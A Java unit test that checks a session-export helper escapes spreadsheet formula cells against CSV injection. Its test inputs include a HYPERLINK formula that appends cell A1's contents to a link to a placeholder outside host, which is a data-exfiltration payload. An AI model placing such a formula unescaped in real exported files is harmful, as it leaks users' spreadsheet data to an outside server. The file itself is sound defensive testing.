package app.unknot.progress;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** A sessions CSV cell a spreadsheet would run as a formula starts with a quote instead (OWASP "CSV Injection"). */
class CsvCellTests {

    @ParameterizedTest(name = "[{0}] -> [{1}]")
    @CsvSource(delimiter = '|', quoteCharacter = '`', emptyValue = "", textBlock = """
        =HYPERLINK("http://example.com/?"&A1,"Click") | '=HYPERLINK("http://example.com/?"&A1,"Click")
        =1+2                                          | '=1+2
        +1+2                                          | '+1+2
        -2+3                                          | '-2+3
        @SUM(A1:A2)                                   | '@SUM(A1:A2)
        `\t=1`                                        | `'\t=1`
        `\r=1`                                        | `'\r=1`
        Stiff in the morning.                         | Stiff in the morning.
        'quoted already                               | 'quoted already
        a = b                                         | a = b
        ` =1`                                         | ` =1`
        Tight; -3 after                               | Tight; -3 after
        ``                                            | ``
        """)
    void aCellThatCouldStartAFormulaStartsWithAQuote(String text, String cell) {
        assertThat(ProgressController.cell(unescape(text))).isEqualTo(unescape(cell));
    }

    @Test
    void noCellIsNoCell() {
        assertThat(ProgressController.cell(null)).isNull();
    }

    private static String unescape(String text) {
        return text.replace("\\t", "\t").replace("\\r", "\r");
    }
}
